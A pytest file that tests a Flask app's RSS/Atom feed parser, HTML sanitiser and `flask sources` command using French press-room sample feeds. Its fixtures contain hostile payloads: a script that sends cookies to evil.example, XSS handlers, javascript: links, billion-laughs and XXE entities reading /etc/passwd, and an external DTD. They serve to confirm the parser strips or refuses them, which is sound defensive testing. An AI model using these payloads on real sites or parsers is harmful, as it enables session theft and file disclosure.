"""Feed parsing on bytes: normalised items, sanitised HTML, hostile feeds refused, `flask sources`."""
from datetime import datetime, timezone

import pytest

from tenants.monitoring.pipeline import feeds
from tenants.monitoring.pipeline.feeds import FeedError, clean_html, html_to_text, parse_feed
from tenants.monitoring.pipeline.cli import sources_cli
from tests.local_server import allow_local, local_server  # noqa: F401

RSS_PRESS_ROOM = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>Salle de presse – Maison Lumière</title>
  <link>https://presse.maison-lumiere.fr/</link>
  <language>fr-FR</language>
  <item>
    <title>Lancement de la collection « Été indien »</title>
    <link>/communiques/ete-indien</link>
    <guid isPermaLink="false">ml-2024-0042</guid>
    <dc:creator>Service de presse</dc:creator>
    <pubDate>Tue, 14 May 2024 09:30:00 +0200</pubDate>
    <description><![CDATA[<p>La Maison Lumière dévoile sa collection <b>Été indien</b>.</p>
      <script>document.location='https://evil.example/?c='+document.cookie</script>
      <img src="x" onerror="alert('xss')"><p>Contact&nbsp;: presse@maison-lumiere.fr</p>]]></description>
  </item>
  <item>
    <title>Rappel produit : lampe Aurore</title>
    <link>javascript:alert(1)</link>
    <guid isPermaLink="false">ml-2024-0041</guid>
    <pubDate>Mon, 13 May 2024 18:00:00 GMT</pubDate>
    <description>Par précaution, nous rappelons la lampe &lt;i&gt;Aurore&lt;/i&gt; &amp; son chargeur.</description>
  </item>
</channel>
</rss>""".encode()

ATOM_NEWSROOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title type="text">Actualités de l'Agence Céleste</title>
  <link rel="alternate" href="https://agence-celeste.fr/actualites"/>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2024-05-14T07:00:00Z</updated>
  <entry>
    <title type="html">Bad buzz &amp;lt;évité&amp;gt; : retour d'expérience</title>
    <link rel="alternate" href="https://agence-celeste.fr/actualites/bad-buzz"/>
    <id>tag:agence-celeste.fr,2024:actualites/17</id>
    <updated>2024-05-14T08:15:00+02:00</updated>
    <author><name>Chloé Martin</name></author>
    <content type="html">&lt;p&gt;Comment une crise a été
      &lt;a href="https://ex.fr" onclick="steal()"&gt;désamorcée&lt;/a&gt;.&lt;/p&gt;
      &lt;style&gt;body{display:none}&lt;/style&gt;</content>
  </entry>
</feed>""".encode()


def test_rss_press_room_items_are_normalised():
    feed = parse_feed(RSS_PRESS_ROOM, base_url="https://presse.maison-lumiere.fr/rss.xml")
    assert feed.title == "Salle de presse – Maison Lumière"
    first, second = feed.items
    assert first.external_id == "ml-2024-0042"
    assert first.url == "https://presse.maison-lumiere.fr/communiques/ete-indien"
    assert first.title == "Lancement de la collection « Été indien »"
    assert first.text == "La Maison Lumière dévoile sa collection Été indien.\nContact : presse@maison-lumiere.fr"
    assert first.author == "Service de presse"
    assert first.published == datetime(2024, 5, 14, 7, 30, tzinfo=timezone.utc)
    assert (first.source, first.language) == ("Salle de presse – Maison Lumière", "fr")
    assert second.url is None  # a javascript: link is never kept
    assert second.text == "Par précaution, nous rappelons la lampe Aurore & son chargeur."


def test_html_from_feeds_never_keeps_scripts_or_handlers():
    item = parse_feed(RSS_PRESS_ROOM).items[0]
    for dangerous in ("<script", "document.cookie", "onerror", "alert", "<img", "evil.example"):
        assert dangerous not in item.text


def test_atom_entries_are_normalised_with_utc_dates():
    feed = parse_feed(ATOM_NEWSROOM, source_name="Agence Céleste")
    (entry,) = feed.items
    assert feed.title == "Actualités de l'Agence Céleste"
    assert entry.external_id == "tag:agence-celeste.fr,2024:actualites/17"
    assert entry.url == "https://agence-celeste.fr/actualites/bad-buzz"
    assert entry.title == "Bad buzz <évité> : retour d'expérience"
    assert entry.text == "Comment une crise a été désamorcée."
    assert (entry.author, entry.source) == ("Chloé Martin", "Agence Céleste")
    assert entry.published == datetime(2024, 5, 14, 6, 15, tzinfo=timezone.utc)


def test_clean_html_keeps_formatting_and_drops_anything_active():
    dirty = ('<p style="color:red" onclick="steal()">Bonjour <b>été</b> <a href="javascript:alert(1)">x</a> '
             '<a href="https://ex.fr/a">lien</a></p><script>alert(1)</script><iframe src="https://ex.fr"></iframe>'
             '<img src=x onerror=alert(1)><!-- secret -->')
    assert clean_html(dirty) == ('<p>Bonjour <b>été</b> <a rel="noopener noreferrer nofollow">x</a> '
                                 '<a href="https://ex.fr/a" rel="noopener noreferrer nofollow">lien</a></p>')


def test_html_to_text_keeps_one_line_per_block_and_decodes_entities():
    markup = "<h2>Titre</h2><p>Un&nbsp;texte &amp; des <em>accents</em> : é</p><ul><li>un</li><li>deux</li></ul>" \
             "<style>p{}</style><script>var x = '<p>';</script>a &lt; b"
    assert html_to_text(markup) == "Titre\nUn texte & des accents : é\nun\ndeux\na < b"
    assert html_to_text("<p>une ligne\n  du source</p>") == "une ligne du source"  # not a break in HTML


def test_sloppy_html_entities_in_a_feed_are_understood():
    sloppy = RSS_PRESS_ROOM.replace(b"Rappel produit", b"Rappel&nbsp;produit&hellip; &eacute;t&eacute;")
    assert parse_feed(sloppy).items[1].title == "Rappel produit… été : lampe Aurore"


def test_a_feed_mislabelled_as_utf8_is_decoded_anyway():
    latin1 = RSS_PRESS_ROOM.decode().replace("–", "-").replace("«", '"').replace("»", '"').encode("latin-1")
    assert parse_feed(latin1).items[0].title == 'Lancement de la collection " Été indien "'


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss version="2.0"><channel><title>&lol3;</title><item><title>&lol3;</title></item></channel></rss>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""
PARAMETER_XXE = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""
XXE_UTF16 = XXE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
XXE_UTF7 = b'<?xml version="1.0" encoding="UTF-7"?>' + XXE.split(b"?>", 1)[1].replace(b"<", b"+ADw-")
WEB_PAGE = b"""<!DOCTYPE html><html lang="fr"><head><title>Presse</title>
<link rel="alternate" type="application/rss+xml" title="Communiques" href="/rss.xml"></head>
<body><p>Bienvenue<br></p></body></html>"""


@pytest.mark.parametrize("body, reason", [
    (b"", "The feed is empty."),
    (b"  \n\t ", "The feed is empty."),
    (BILLION_LAUGHS, "declares its own XML entities"),
    (XXE, "declares its own XML entities"),
    (PARAMETER_XXE, "declares its own XML entities"),
    (XXE_UTF16, "declares its own XML entities"),
    (XXE_UTF7, "declares its own XML entities"),
    (RSS_PRESS_ROOM[:-200], "cut off before its end"),
    (RSS_PRESS_ROOM[:300], "cut off before its end"),
    (b"<rss version='2.0'><channel><title>x</wrong></channel>" + b"<p>" * 600_000, "too large to be repaired"),
    (WEB_PAGE, "web page, not a feed. The page announces a feed at https://presse.example.fr/rss.xml"),
    (b"<?xml version='1.0'?><note><to>Tove</to></note>", "not an RSS or Atom feed"),
    (b'{"items": [{"title": "json"}]}', "not an RSS or Atom feed"),
    (bytes(range(256)) * 40, "not an RSS or Atom feed"),
    (b"/etc/passwd", "not an RSS or Atom feed"),
    (b"<rss version='2.0'><channel>" + b"<x>" * 100 + b"</x>" * 100 + b"</channel></rss>", "unusual way"),
    (b"<rss version='2.0' " + b" ".join(b'a%d="1"' % n for n in range(100)) + b"/>", "unusual way"),
    (b"<rss version='2.0'><channel>" + b"<item/>" * 100_001 + b"</channel></rss>", "unusual way"),
])
def test_hostile_or_broken_feeds_become_a_readable_feed_error(body, reason):
    with pytest.raises(FeedError) as refused:
        parse_feed(body, base_url="https://presse.example.fr/")
    assert reason in str(refused.value)
    assert "root:" not in str(refused.value)


def test_a_huge_feed_is_refused_by_size_before_parsing(monkeypatch):
    monkeypatch.setattr(feeds.feedparser, "parse", lambda *args, **kwargs: pytest.fail("parsed anyway"))
    with pytest.raises(FeedError, match="larger than 5 MB"):
        parse_feed(b" " * (feeds.MAX_FEED_BYTES + 1))


def test_broken_or_active_links_in_a_feed_are_dropped():
    body = RSS_PRESS_ROOM.replace(b"/communiques/ete-indien", b"http://[not-an-ip/").replace(
        b"javascript:alert(1)", b"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;")
    assert [item.url for item in parse_feed(body).items] == [None, None]


def test_only_bytes_are_parsed_never_a_url_or_a_path():
    with pytest.raises(TypeError):
        parse_feed("https://presse.example.fr/rss.xml")
    with pytest.raises(TypeError):
        parse_feed("/etc/passwd")


def test_an_external_dtd_is_never_fetched(local_server):
    local_server.reply("/evil.dtd", b'<!ENTITY leak "leaked">')
    body = RSS_PRESS_ROOM.replace(b"<rss ", f'<!DOCTYPE rss SYSTEM "{local_server.url}/evil.dtd">\n<rss '.encode(), 1)
    feed = parse_feed(body)
    assert len(feed.items) == 2
    assert local_server.requests == []


def run_sources(app, *args):
    """Run `flask sources ...` with the group registered, as the app will."""
    app.cli.add_command(sources_cli)
    return app.test_cli_runner().invoke(args=["sources", *args])


def test_cli_test_shows_what_the_agency_would_see(app, local_server, allow_local):
    local_server.reply("/rss.xml", RSS_PRESS_ROOM, headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    local_server.reply("/presse", status=301, headers={"Location": "/rss.xml"})
    result = run_sources(app, "test", local_server.url_for("/presse"))
    assert result.exit_code == 0, result.output
    assert f"Redirected to {local_server.url_for('/rss.xml')}" in result.output
    assert "Salle de presse – Maison Lumière: 2 items" in result.output
    assert "- 2024-05-14 07:30 UTC  Lancement de la collection « Été indien »" in result.output
    assert f"  {local_server.url}/communiques/ete-indien" in result.output


def test_cli_test_explains_a_refusal_and_fails(app, local_server, monkeypatch):
    monkeypatch.delenv("FETCH_ALLOW_HOSTS", raising=False)
    monkeypatch.setitem(app.config, "FETCH_ALLOW_HOSTS", "")
    result = run_sources(app, "test", local_server.url_for("/rss.xml"))
    assert result.exit_code != 0
    assert "private or internal network" in result.output
    assert local_server.requests == []


def test_cli_test_explains_a_web_page_and_fails(app, local_server, allow_local):
    local_server.reply("/", WEB_PAGE, headers={"Content-Type": "text/html"})
    result = run_sources(app, "test", local_server.url_for("/"))
    assert result.exit_code != 0
    assert f"The page announces a feed at {local_server.url}/rss.xml" in result.output


def test_cli_parse_reads_a_saved_file(app, tmp_path):
    saved = tmp_path / "celeste.xml"
    saved.write_bytes(ATOM_NEWSROOM)
    result = run_sources(app, "parse", str(saved))
    assert result.exit_code == 0, result.output
    assert "Actualités de l'Agence Céleste: 1 item" in result.output
    assert "2024-05-14 06:15 UTC  Bad buzz <évité> : retour d'expérience" in result.output


def test_cli_parse_refuses_a_hostile_file(app, tmp_path):
    saved = tmp_path / "lol.xml"
    saved.write_bytes(BILLION_LAUGHS)
    result = run_sources(app, "parse", str(saved))
    assert result.exit_code != 0
    assert "declares its own XML entities" in result.output
